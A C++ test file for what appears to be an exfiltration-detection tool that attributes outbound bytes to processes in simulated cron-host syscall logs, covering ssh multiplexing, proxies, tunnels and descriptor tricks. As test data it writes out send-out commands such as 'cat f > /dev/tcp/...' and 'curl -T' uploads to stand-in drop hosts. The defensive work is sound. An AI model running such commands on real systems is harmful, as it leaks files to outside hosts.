#include "host_with_cron.hpp"

/// Traps 23 to 38 of transfer-tools §5: whose bytes they are.
namespace auexfil::test {

TEST_CASE("trap 23: vsftpd's child sends on a descriptor that it never got") {
  CronHost log;
  const int vsftpd = log.daemon(400, "/usr/sbin/vsftpd");
  log.socket(vsftpd, 3, 1, 10);
  log.bind(vsftpd, 3, "::", 21);
  log.listen(vsftpd, 3);
  log.accept(vsftpd, 3, 0, "::ffff:203.0.113.9", 51000);
  log.fork(vsftpd, 401);  // the session's privileged parent
  log.fork(401, 402);     // the one that serves
  log.write(402, 0, 20);
  log.socket(401, 5);
  log.bind(401, 5, "192.0.2.1", 0);
  log.listen(401, 5);
  log.accept(401, 5, 6, kDrop, 51001);
  log.call(401, "sendmsg", 1, {4, 0x7f, 0});
  log.close(401, 6);
  log.call(402, "sendfile", 2'097'152, {7, 8, 0, 2'097'152});
  log.done(402, 0);
  const auto facts = tell(log);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].side == transfer::Side::server);
  CHECK(facts[0].bytes_out == 2'097'172U);
  CHECK(facts[0].basis == transfer::Basis::estimated);
  CHECK(has_note(facts[0], "passed"));
}

/// A master that somebody left running, and a job's scp over it.
CronHost control_master() {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int master = log.run(shell, 510, "/usr/bin/ssh", {"ssh", "-M", "-N", "-f", "203.0.113.9"});
  log.tcp(master, 3, kDrop, 22);
  log.write(master, 3, 3377);
  log.write(master, 3, 44);
  log.call(master, "socket", 4, {1, 1, 0});
  log.bind_local(master, 4, "/run/mux45.cnB4IpRKnqWNnv7N");
  log.fork(master, 511);
  log.exit(master);
  log.who(511).ppid = 1;
  log.setsid(511);
  const int scp = log.tool("/usr/bin/scp", {"scp", "f", "203.0.113.9:p"});
  const int ssh = log.run(scp, scp + 1, "/usr/bin/ssh", CronHost::sftp_argv("203.0.113.9"));
  log.call(ssh, "socket", 3, {1, 1, 0});
  log.local(ssh, 3, "/run/mux45");
  for (int i = 0; i < 3; ++i) {
    log.call(ssh, "sendmsg", 1, {3, 0x7f, 0});
  }
  for (int i = 0; i < 30; ++i) {
    log.write(511, 3, 32804);
  }
  log.exit(ssh);
  log.exit(scp);
  log.done(511);
  return log;
}

TEST_CASE("trap 24: a ControlMaster sends what another process's command line names") {
  const CronHost log = control_master();
  const auto facts = tell(log);
  REQUIRE(to(facts, kDrop).size() == 1);
  const auto fact = to(facts, kDrop)[0];
  CHECK(fact.process.pid == 510);
  CHECK(fact.bytes_out == 3377U + 44U + 30U * 32804U);
  CHECK(has_note(fact, "scp f 203.0.113.9:p"));
}

TEST_CASE("trap 25: the mux client moves nothing itself, and its bytes count once") {
  const auto facts = tell(control_master());
  std::uint64_t total = 0;
  for (const auto& fact : facts) {
    total += fact.bytes_out.value_or(0);
    CHECK(fact.tool != "scp");
  }
  CHECK(total == 3377U + 44U + 30U * 32804U);
}

TEST_CASE("trap 26: ControlPersist's master has ppid 1 and is still the job's") {
  CronHost log;
  const int scp = log.tool("/usr/bin/scp", {"scp", "-oControlPersist=5", "f", "203.0.113.9:p"});
  const int ssh = log.ssh_child(scp, CronHost::sftp_argv("203.0.113.9"), kDrop);
  log.write(ssh, 3, 41);
  log.write(ssh, 3, 3336);
  log.fork(ssh, 1800);
  log.setsid(1800);
  log.fork(1800, 1801);
  log.exit(1800);
  log.who(1801).ppid = 1;
  log.setsid(1801);
  for (int i = 0; i < 10; ++i) {
    log.write(1801, 3, 32804);
  }
  log.close(ssh, 3);
  log.exit(ssh);
  log.exit(scp);
  log.done(1801);
  const auto fact = one(log);
  CHECK(fact.tool == "scp");
  CHECK(sign_of(fact) == "unattended cron");
  CHECK(sum(fact) == "out 331417 measured");
}

TEST_CASE("trap 27: the control socket is bound under a random name and linked to its own") {
  const auto facts = tell(control_master());
  REQUIRE(to(facts, kDrop).size() == 1);
  CHECK(has_note(to(facts, kDrop)[0], "/run/mux45:"));
}

TEST_CASE("trap 28: ProxyUseFdpass: nc connects and exits, ssh writes on what it never opened") {
  CronHost log;
  const int scp = log.tool("/usr/bin/scp", {"scp", "f", "203.0.113.9:p"});
  const int ssh = log.run(scp, scp + 1, "/usr/bin/ssh", CronHost::sftp_argv("203.0.113.9"));
  log.close_range(ssh, 3);
  log.call(ssh, "socketpair", 0, {1, 1, 0, 0}, {"FD_PAIR fd0=3 fd1=4"});
  log.fork(ssh, 1900);
  log.dup2(1900, 4, 1);
  log.exec(1900, "/usr/bin/bash", {"/bin/bash", "-c", "exec nc -F 203.0.113.9 22"});
  log.exec(1900, "/usr/bin/nc.openbsd", {"nc", "-F", "203.0.113.9", "22"});
  log.socket(1900, 3);
  log.connect(1900, 3, kDrop, 22, -115);
  log.call(1900, "sendmsg", 1, {1, 0x7f, 0});
  log.exit(1900);
  log.write(ssh, 5, 41);
  for (int i = 0; i < 10; ++i) {
    log.write(ssh, 5, 32804);
  }
  log.done(ssh, 5);
  const auto fact = one(log);
  CHECK(fact.tool == "scp");
  CHECK(sum(fact) == "out 328081 estimated");
}

TEST_CASE("trap 29: ProxyJump: the log has the jump host, the command line the target") {
  CronHost log;
  const int scp = log.tool("/usr/bin/scp", {"scp", "-J", "198.51.100.7", "f", "203.0.113.9:p"});
  std::vector<std::string> argv = CronHost::sftp_argv("203.0.113.9");
  const int ssh = log.run(scp, scp + 1, "/usr/bin/ssh", argv);
  const int hop = log.run(ssh, 1900, "/usr/bin/bash",
                          {"/bin/bash", "-c", "exec ssh -W '[203.0.113.9]:22' 198.51.100.7"});
  log.exec(hop, "/usr/bin/ssh", {"ssh", "-W", "[203.0.113.9]:22", "198.51.100.7"});
  log.tcp(hop, 3, kOther, 22);
  log.write(ssh, 4, 400'000);  // into the pipe
  log.upload(hop, 3, 410'000);
  log.done(hop);
  log.exit(ssh);
  const auto fact = one(log);
  CHECK(fact.tool == "scp");
  CHECK(sum(fact) == "out 410000 measured");
  REQUIRE(destination(fact, kOther) != nullptr);
  CHECK(has_note(fact, "203.0.113.9"));
}

TEST_CASE("trap 30: ProxyCommand: the same bytes in a pipe and on the wire") {
  CronHost log;
  const int ssh = log.tool("/usr/bin/ssh", {"ssh", "203.0.113.9", "cat > f"});
  const int nc =
      log.run(ssh, ssh + 1, "/usr/bin/bash", {"/bin/bash", "-c", "exec nc 203.0.113.9 22"});
  log.exec(nc, "/usr/bin/nc.openbsd", {"nc", "203.0.113.9", "22"});
  log.socket(nc, 3);
  log.connect(nc, 3, kDrop, 22, -115);
  for (int i = 0; i < 10; ++i) {
    log.write(ssh, 4, 16384);
    log.write(nc, 3, 16384);
  }
  log.write(nc, 3, 60);
  log.done(nc);
  log.exit(ssh);
  const auto fact = one(log);
  CHECK(fact.tool == "ssh");
  CHECK(sum(fact) == "out 163900 measured");
}

TEST_CASE("trap 31: what goes through a tunnel is told of the tunnel, once") {
  CronHost log;
  const int ssh =
      log.tool("/usr/bin/ssh", {"ssh", "-f", "-N", "-L", "9999:192.0.2.3:9000", "203.0.113.9"});
  log.tcp(ssh, 3, kDrop, 22);
  log.write(ssh, 3, 41);
  log.write(ssh, 3, 3336);
  log.fork(ssh, 1900);
  log.exit(ssh);
  log.who(1900).ppid = 1;
  log.setsid(1900);
  log.socket(1900, 4);
  log.bind(1900, 4, "127.0.0.1", 9999);
  log.listen(1900, 4);
  const int nc = log.tool("/usr/bin/nc.openbsd", {"nc", "-N", "127.0.0.1", "9999"});
  log.tcp(nc, 3, "127.0.0.1", 9999);
  log.accept(1900, 4, 5, "127.0.0.1", 50123);
  for (int i = 0; i < 20; ++i) {
    log.write(nc, 3, 16384);
    log.write(1900, 3, 16420);
  }
  log.done(nc);
  log.close(1900, 5);
  log.done(1900);
  const auto fact = one(log);
  CHECK(fact.tool == "ssh");
  CHECK(sum(fact) == "out 331777 measured");
}

TEST_CASE("trap 32: a tunnel's real target is in the arguments of an ssh hours before") {
  CronHost log;
  const int ssh =
      log.tool("/usr/bin/ssh", {"ssh", "-f", "-N", "-L", "9999:192.0.2.3:9000", "203.0.113.9"});
  log.tcp(ssh, 3, kDrop, 22);
  log.write(ssh, 3, 41);
  log.fork(ssh, 1900);
  log.exit(ssh);
  log.who(1900).ppid = 1;
  log.setsid(1900);
  log.pass(5 * 3'600'000);
  log.upload(1900, 3, 400'000);
  log.done(1900);
  const auto fact = one(log);
  CHECK(fact.process.argv[4] == "9999:192.0.2.3:9000");
  CHECK(fact.bytes_out == 400'041U);
  CHECK(sign_of(fact) == "unattended cron");
}

TEST_CASE("trap 33: bash connects, cat writes: the transfer is bash's") {
  CronHost log;
  const int bash = log.tool("/usr/bin/bash", {"bash", "-c", "cat f > /dev/tcp/203.0.113.9/9000"});
  log.tcp(bash, 3, kDrop, 9000);
  log.fork(bash, 1900);
  log.dup2(1900, 3, 1);
  log.close(1900, 3);
  log.exec(1900, "/usr/bin/cat", {"cat", "f"});
  log.close(bash, 3);
  log.write(1900, 1, 131072);
  log.write(1900, 1, 131072);
  log.write(1900, 1, 77);
  log.exit(1900);
  log.exit(bash);
  const auto fact = one(log);
  CHECK(fact.process.pid == static_cast<std::uint32_t>(bash));
  CHECK(fact.process.argv[2] == "cat f > /dev/tcp/203.0.113.9/9000");
  CHECK(fact.bytes_out == 262'221U);
}

TEST_CASE("trap 34: after dup2 and close the socket is standard output only") {
  CronHost log;
  const int bash = log.tool("/usr/bin/bash", {"bash", "-c", "exec > /dev/tcp/203.0.113.9/9; x"});
  log.tcp(bash, 3, kDrop, 9000);
  log.dup2(bash, 3, 1);
  log.close(bash, 3);
  log.open(bash, 3, "/srv/f");
  log.write(bash, 3, 9'999'999);  // a file
  log.write(bash, 1, 64);
  log.write(bash, 1, 5000);
  log.exit(bash);
  CHECK(one(log).bytes_out == 5064U);
}

TEST_CASE("trap 35: close_range empties the table in one call") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 5, kDrop, 9000);
  log.write(tool, 5, 64);
  log.close_range(tool, 3);
  log.write(tool, 5, 9'999'999);  // whatever 5 is now, it is not the socket
  log.exit(tool);
  CHECK(sum(one(log)) == "out 64 measured");
}

TEST_CASE("trap 35: close-on-exec may be set later") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 5, kDrop, 9000);
  log.close_on_exec(tool, 5);
  log.write(tool, 5, 64);
  log.exec(tool, "/opt/up/packer", {"packer"});
  log.write(tool, 5, 9'999'999);
  log.exit(tool);
  CHECK(sum(one(log)) == "out 64 measured");
}

TEST_CASE("trap 36: a failed execve changes nothing, whatever arguments it has") {
  CronHost log;
  const int shell = log.job("rsync -a d/ 203.0.113.9:d");
  log.fork(shell, shell + 1);
  const int pid = shell + 1;
  for (int i = 0; i < 3; ++i) {
    log.call(pid, "execve", -2, {0x55, 0x56, 0x57},
             {"EXECVE argc=2 a0=\"/usr/local/bin/evil\" a1=\"x\""});
  }
  log.exec(pid, "/usr/bin/rsync", {"rsync", "-a", "d/", "203.0.113.9:d"});
  const int ssh = log.ssh_child(
      pid, {"ssh", "203.0.113.9", "rsync", "--server", "-logDtpre.iLsfxCIvu", ".", "d"}, kDrop);
  log.upload(ssh, 3, 200'000);
  log.done(ssh);
  const auto fact = one(log);
  CHECK(fact.tool == "rsync");
  CHECK(fact.process.exe == "/usr/bin/rsync");
  REQUIRE(fact.lineage.size() >= 2);
  CHECK(fact.lineage[0].comm == "dash");
}

TEST_CASE("trap 37: a wrapper execs in place several times: the last is the tool") {
  CronHost log;
  const int shell = log.job("/opt/shims/upload");
  log.fork(shell, shell + 1);
  const int pid = shell + 1;
  log.exec(pid, "/usr/bin/bash", {"bash", "/opt/shims/upload"}, "/opt/shims/upload");
  log.exec(pid, "/usr/bin/env", {"env", "curl", "-T", "f", "http://203.0.113.9/"});
  log.exec(pid, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(pid, 3, kDrop, 80);
  log.send(pid, 3, 150);
  log.send(pid, 3, 50'000);
  log.done(pid);
  const auto fact = one(log);
  CHECK(fact.tool == "curl");
  CHECK(fact.process.argv.front() == "curl");
  CHECK(fact.script == "/opt/shims/upload");
  REQUIRE(fact.job);
  CHECK(fact.job->what == "/bin/sh -c /opt/shims/upload");
}

TEST_CASE("trap 38: a thread's sockets are its process's") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://drop.example.org/f"});
  log.call(curl, "clone", 7777, {0x3d0f00, 0x7f, 0x7f, 0x7f});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.send(curl, 3, 50'000);
  log.done(curl);
  CHECK(sum(one(log)) == "out 50150 measured");
}

TEST_CASE("trap 38: where pid= is a thread's, its calls are its process's") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, kDrop, 9000);
  log.write(tool, 3, 64);
  log.call(tool, "clone", 7777, {0x3d0f00, 0x7f, 0x7f, 0x7f});
  Who thread = log.who(tool);
  log.there(7777, thread.ppid, thread.exe);
  log.who(7777) = thread;
  log.write(7777, 3, 30'000);
  log.close(7777, 3);
  log.exit(tool);
  CHECK(sum(one(log)) == "out 30064 measured");
}

}  // namespace auexfil::test
